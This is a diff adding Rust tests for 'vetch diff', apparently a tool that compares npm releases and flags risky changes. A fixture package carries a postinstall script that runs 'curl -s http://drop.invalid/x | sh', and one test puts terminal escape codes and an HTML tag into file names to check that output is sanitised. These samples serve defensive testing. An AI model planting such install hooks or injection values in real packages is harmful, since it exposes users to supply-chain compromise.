@@ -1,0 +1,94 @@
+//! `vetch diff` of two releases.
+
+use std::fs;
+
+use serde_json::Value;
+use vetch_testkit::{NpmRegistry, Pkg, Project};
+
+use crate::vetch;
+
+fn quiet(version: &str) -> Pkg {
+    Pkg::new("tool", version).file("index.js", "module.exports = (a, b) => a + b;\n")
+}
+
+/// It fetches and runs something when installed. Inert: the host does not exist.
+fn noisy(version: &str) -> Pkg {
+    quiet(version).script("postinstall", "node setup.js").dep("helper", "^1.0.0").file(
+        "setup.js",
+        "const { execSync } = require('child_process');\nexecSync('curl -s http://drop.invalid/x | sh');\n",
+    )
+}
+
+/// Two archives in a folder.
+fn archives(old: &Pkg, new: &Pkg) -> tempfile::TempDir {
+    let folder = tempfile::tempdir().unwrap();
+    fs::write(folder.path().join("old.tgz"), old.tarball()).unwrap();
+    fs::write(folder.path().join("new.tgz"), new.tarball()).unwrap();
+    folder
+}
+
+#[test]
+fn what_the_new_release_does_comes_first() {
+    let folder = archives(&quiet("1.0.0"), &noisy("1.0.1"));
+    let run = vetch(&["diff", "old.tgz", "new.tgz", "--offline"]).dir(folder.path()).run().expect(1);
+    insta::assert_snapshot!(run.stdout);
+}
+
+#[test]
+fn every_form_says_the_same() {
+    let folder = archives(&quiet("1.0.0"), &noisy("1.0.1"));
+    let form = |format: &str| {
+        let line = ["diff", "old.tgz", "new.tgz", "--offline", "--format", format];
+        vetch(&line).dir(folder.path()).run().expect(1)
+    };
+    let json: Value = form("json").json();
+    assert_eq!(json["schema"], "vetch.release-diff/1");
+    assert_eq!(json["change"]["install_commands"][0]["command"], "node setup.js");
+    assert_eq!(json["change"]["dependencies"][0]["name"], "helper");
+    let gained = json["change"]["gained"].as_array().unwrap();
+    assert!(gained.iter().any(|capability| capability["id"] == "process.spawn"), "{gained:?}");
+    for text in [form("markdown").stdout, form("html").stdout, form("terminal").stdout] {
+        for words in ["tool@1.0.0", "tool@1.0.1", "malicious", "node setup.js", "helper", "setup.js:2"] {
+            assert!(text.contains(words), "`{words}` is not in\n{text}");
+        }
+    }
+}
+
+#[test]
+fn releases_that_do_the_same_pass() {
+    let folder = archives(&quiet("1.0.0"), &quiet("1.0.1"));
+    let run = vetch(&["diff", "old.tgz", "new.tgz", "--offline"]).dir(folder.path()).run().expect(0);
+    assert!(run.stdout.contains("Nothing differs"), "{}", run.stdout);
+}
+
+#[test]
+fn a_named_release_is_compared_with_the_one_before_it() {
+    let registry = NpmRegistry::builder();
+    let registry = registry.package(quiet("1.0.0")).package(quiet("2.0.0")).package(noisy("1.0.1")).start();
+    let project =
+        Project::builder("app").registry(&registry.url()).user_npmrc(&format!("registry={}\n", registry.url()));
+    let project = project.build();
+    let diff =
+        |line: &[&str]| vetch(&["diff"]).args(line.iter().copied()).dir(project.root()).home(project.home()).run();
+    let run = diff(&["--previous", "npm:tool@1.0.1"]).expect(1);
+    assert!(run.stdout.starts_with("tool@1.0.0 → tool@1.0.1"), "{}", run.stdout);
+    let run = diff(&["npm:tool@1.0.0", "npm:tool@2.0.0"]).expect(0);
+    assert!(run.stdout.starts_with("tool@1.0.0 → tool@2.0.0"), "{}", run.stdout);
+    let run = diff(&["npm:tool@1.0.0", "npm:tool@3.0.0"]);
+    assert!([2, 3].contains(&run.status) && !run.stdout.contains("clean"), "{} {}", run.stdout, run.stderr);
+    let run = diff(&["--previous", "npm:tool@1.0.0"]).expect(2);
+    assert!(run.stderr.contains("no release before"), "{}", run.stderr);
+}
+
+#[test]
+fn hostile_names_act_on_nothing() {
+    let file = "a\u{1b}[31m.js";
+    let new = quiet("1.0.1").script("postinstall", "node <img src=x>\u{1b}[2J").file(file, "1");
+    let folder = archives(&quiet("1.0.0"), &new);
+    for format in ["terminal", "markdown", "html", "json"] {
+        let line = ["diff", "old.tgz", "new.tgz", "--offline", "--allow-incomplete", "--format", format];
+        let run = vetch(&line).dir(folder.path()).run();
+        assert!(!run.stdout.contains('\u{1b}'), "{format}: {}", run.stdout);
+        assert!(format == "terminal" || format == "json" || !run.stdout.contains("<img"), "{format}: {}", run.stdout);
+    }
+}
